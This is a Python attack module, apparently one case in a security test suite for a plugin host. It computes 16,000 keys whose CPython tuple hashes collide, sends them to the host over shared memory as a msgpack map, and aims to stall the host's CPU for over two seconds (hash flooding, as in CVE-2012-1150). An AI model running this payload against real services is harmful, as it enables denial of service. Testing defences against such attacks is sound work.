"""Make the host build a dictionary whose keys all collide.

Attacks: the host's time, in C, with the interpreter's lock held.
How: arrays as map keys become tuples, whose hash is no secret: one step of its xxHash is solved backwards.
Source: CVE-2012-1150 and "hash flooding" (28C3); CPython's tuple hash; found by reading the decoder.
Breach: the host is busy for more than 2 s, or raises anything but a protocol violation.
"""

import mmap
import os
import socket
import time

GROUP, ENDS, LIMITS, HOST_CPU_S = "protocol", ("ProtocolViolation",), {"wall_s": 10}, 2.0
_P1, _P2, _P5, _MASK = 11400714785074694791, 14029467366897019727, 2870177450012600261, (1 << 64) - 1


def _colliding(count):
    inverse1, inverse2 = pow(_P1, -1, 1 << 64), pow(_P2, -1, 1 << 64)
    target = 123456789 * inverse1 & _MASK
    target = (target >> 31 | target << 33) & _MASK
    first = 0
    while count:
        first += 1
        mixed = (_P5 + first * _P2) & _MASK
        mixed = ((mixed << 31 | mixed >> 33) & _MASK) * _P1 & _MASK
        second = (target - mixed) * inverse2 & _MASK
        second -= second >> 63 << 64
        if abs(second) < 2**61 - 1 and second != -1:
            count -= 1
            yield first, second


def attack(outside):
    import msgspec
    from schillinger_plugins.protocol import frames

    keys = list(_colliding(16_000))
    structure = (
        b"\x81\xa1y\xdf"
        + len(keys).to_bytes(4, "big")
        + b"".join(msgspec.msgpack.encode(key) + b"\x01" for key in keys)
    )
    os.write(3, frames.encode(frames.NeedSegment(len(structure) + 64)))
    frame = frames.decode_to_worker(os.read(3, 65536))
    with socket.socket(fileno=os.dup(3)) as channel:
        _, (descriptor,), _, _ = socket.recv_fds(channel, 1, 1)
    segment = mmap.mmap(descriptor, frame.size)
    segment[: len(structure)] = structure
    os.write(3, frames.encode(frames.Returned(frames.Body(b"", 0, len(structure)), 0.0, 0)))
    time.sleep(10)
